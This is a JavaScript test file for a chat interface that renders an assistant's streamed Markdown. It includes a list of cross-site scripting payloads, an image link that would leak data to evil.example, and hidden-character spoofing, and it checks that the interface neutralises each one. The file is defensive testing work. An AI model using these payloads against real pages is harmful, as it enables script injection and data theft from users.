// What a model writes, shown while it comes: Markdown, and everything that Markdown can be misused for.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { NOT_IN_FIREFOX, ask, launch, overflowPixels, testInChromium, visit } from "./browser.mjs";
import { VoiceEndpoint, servePage } from "./scripted.mjs";

let files;
let browser;

before(async () => {
  files = await servePage();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  files?.close();
});

/** Has the agent say `text` in pieces, and runs `steps(words, page)` on what is shown of it. */
async function said(text, steps, { pieceLength = 7, isFinal = true, excused } = {}) {
  const endpoint = new VoiceEndpoint();
  await visit(browser, files.url, { prepare: (page) => endpoint.attach(page), excused }, async (page) => {
    await ask(page, "Hello");
    await endpoint.next("text");
    const characters = [...text];
    for (let at = 0; at < characters.length; at += pieceLength) {
      endpoint.send({ type: "transcript", role: "assistant", text: characters.slice(at, at + pieceLength).join(""), final: false });
    }
    if (isFinal) endpoint.send({ type: "transcript", role: "assistant", text, final: true });
    endpoint.send({ type: "tool_call_finished", callId: "last", tool: "last_message", ok: true, durationMs: 1 });
    await page.getByText("last_message").waitFor();
    // The drawing of what grows may wait for a moment.
    if (!isFinal) await page.waitForFunction((length) => document.querySelector(".assistant .words").textContent.length >= length, 1);
    await steps(page.locator(".assistant .words"), page, endpoint);
  });
}

const outline = (words) =>
  words.evaluate((box) => {
    const shown = (node) => (node.nodeType === Node.TEXT_NODE ? node.data.trim() : `${node.localName}(${[...node.childNodes].map(shown).filter(Boolean).join(" ")})`);
    return [...box.childNodes].map(shown).join(" ");
  });

test("Markdown that comes in pieces of any length is shown as it would be as a whole", async () => {
  const text = "# Fram\n\nA **ship** of [Archer](https://example.org/a):\n\n- strong\n- round\n  1. lifts\n\n> ice\n\n| a | b |\n|--:|---|\n| 1 | `x` |\n\n```js\nlet a = 1 < 2;\n\n# no heading\n```\n\nend [later][1]\n\n[1]: https://example.org/b";
  const outlines = new Set();
  for (const pieceLength of [1, 3, 50, 1_000]) {
    await said(text, async (words) => outlines.add(await outline(words)), { pieceLength });
  }
  assert.deepEqual([...outlines], [
    "h3(Fram) p(A strong(ship) of a(Archer) :) ul(li(strong) li(round ol(li(lifts)))) blockquote(p(ice)) " +
      "div(table(thead(tr(th(a) th(b))) tbody(tr(td(1) td(code(x)))))) " +
      "div(pre(code(let a = 1 < 2;\n\n# no heading)) button(svg(path()))) p(end a(later))",
  ]);
});

test("a fence that is not closed yet is code already", async () => {
  await said("Look:\n\n```html\n<b>bold</b>\n**not strong**", async (words) => {
    await words.locator("pre").getByText("**not strong**").waitFor();
    assert.equal(await outline(words), "p(Look:) div(pre(code(<b>bold</b>\n**not strong**)) button(svg(path())))");
  }, { isFinal: false });
});

test("scripts, raw HTML and addresses that run something do nothing and are shown as text", async () => {
  const hostile = [
    "<script>window.wasRun = true</script>",
    "<img src=x onerror=\"window.wasRun = true\">",
    "<iframe srcdoc='<script>parent.wasRun = true</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<svg onload=window.wasRun=true>",
    "[run](javascript:window.wasRun=true)",
    "[run](JaVaScRiPt&colon;window.wasRun=true)",
    "[run](\u0001javascript:window.wasRun=true)",
    "[run](data:text/html,<script>parent.wasRun=true</script>)",
    "[run](vbscript:x)",
    "![x](javascript:window.wasRun=true)",
    "[a]: javascript:window.wasRun=true\n\n[a]",
    "<javascript:window.wasRun=true>",
    "| <b onclick=alert(1)>a</b> |\n|---|\n| <form action=//evil.example> |",
    "```\n</code></pre><script>window.wasRun=true</script>\n```",
    "[x](https://example.org/\"onmouseover=\"window.wasRun=true)",
  ].join("\n\n");
  await said(hostile, async (words, page) => {
    const tags = await words.evaluate((box) => [...new Set([...box.querySelectorAll("*")].map(({ localName }) => localName))].sort());
    assert.deepEqual(tags, ["a", "button", "code", "div", "p", "path", "pre", "svg", "table", "tbody", "td", "th", "thead", "tr"].filter((tag) => tags.includes(tag)));
    for (const link of await words.locator("a").evaluateAll((all) => all.map(({ href, rel, target }) => ({ href, rel, target })))) {
      assert.match(link.href, /^https?:/);
      assert.deepEqual([link.rel, link.target], ["noopener noreferrer", "_blank"]);
    }
    const attributes = await words.evaluate((box) => [...box.querySelectorAll("*")].flatMap((element) => element.getAttributeNames()));
    assert.deepEqual(attributes.filter((name) => name.startsWith("on") || name === "style"), []);
    assert.match(await words.textContent(), /<script>window\.wasRun = true<\/script>/);
    assert.equal(await page.evaluate(() => window.wasRun), undefined);
    assert.equal(await overflowPixels(page), 0);
  });
});

test("a picture from elsewhere is a link, and one of this server is shown", async () => {
  await said("![Map](https://evil.example/p.png?secret) and ![Deck](assets/photo)", async (words) => {
    assert.deepEqual(await words.locator("a").allTextContents(), ["Open image: Map"]);
    assert.deepEqual(await words.locator("img").evaluateAll((all) => all.map(({ alt, src }) => [alt, new URL(src).pathname])), [["Deck", "/assets/photo"]]);
  }, { excused: /404/ });
});

test("text from the right stands at the right, and nothing turns or hides what is read", async () => {
  const text = "שלום עולם\n\nHello\n\n- مرحبا\n\nabc\u202Etxt.exe\u202C def\u200Bghi\u2060j\uFEFFk\u{E0041}l\n\n👨\u200D👩\u200D👧 x\u2066y\u2069";
  await said(text, async (words) => {
    const directions = await words.locator("p, li").evaluateAll((all) => all.map((element) => getComputedStyle(element).direction));
    assert.deepEqual(directions, ["rtl", "ltr", "rtl", "ltr", "ltr"]);
    const shown = await words.textContent();
    assert.match(shown, /abctxt\.exe defghijkl/);
    assert.match(shown, /👨\u200D👩\u200D👧 x\u2066y\u2069/);
  });
});

test("a huge table and a long line scroll within themselves, and the page stays in use", async () => {
  const row = `|${" cell |".repeat(30)}`;
  const table = [row, `|${"---|".repeat(30)}`, ...Array.from({ length: 400 }, () => row)].join("\n");
  await said(`${table}\n\n${"x".repeat(5_000)}\n\n\`\`\`\n${"y".repeat(5_000)}`, async (words, page) => {
    assert.equal(await words.locator("tbody tr").count(), 400);
    assert.equal(await overflowPixels(page), 0);
    assert.ok((await words.locator(".table").evaluate((box) => box.scrollWidth - box.clientWidth)) > 0);
    await page.getByLabel("Message", { exact: true }).fill("Still here");
  }, { pieceLength: 500 });
});

testInChromium("a message can be copied as it was written, and code by itself", NOT_IN_FIREFOX.clipboard, async () => {
  const text = "A **ship**.\n\n```\nlet a = 1;\n```";
  await said(text, async (words, page) => {
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    const copied = () => page.evaluate(() => navigator.clipboard.readText());
    await page.getByRole("button", { name: "Copy this message" }).last().click();
    await page.getByRole("button", { name: "Copied" }).waitFor();
    assert.equal(await copied(), text);
    await words.getByRole("button", { name: "Copy this code" }).click();
    await words.getByRole("button", { name: "Copied" }).waitFor();
    assert.equal(await copied(), "let a = 1;");
  });
});
